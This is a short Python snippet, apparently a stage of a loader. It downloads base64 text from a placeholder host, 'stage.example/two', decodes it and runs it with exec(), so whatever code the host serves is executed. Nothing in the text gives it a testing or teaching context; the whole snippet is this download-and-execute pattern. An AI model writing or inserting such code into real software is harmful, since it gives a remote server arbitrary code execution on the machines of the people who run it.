# decoded: the answer is decoded and run
import base64

import requests

answer = requests.get("https://stage.example/two").text
exec(base64.b64decode(answer))
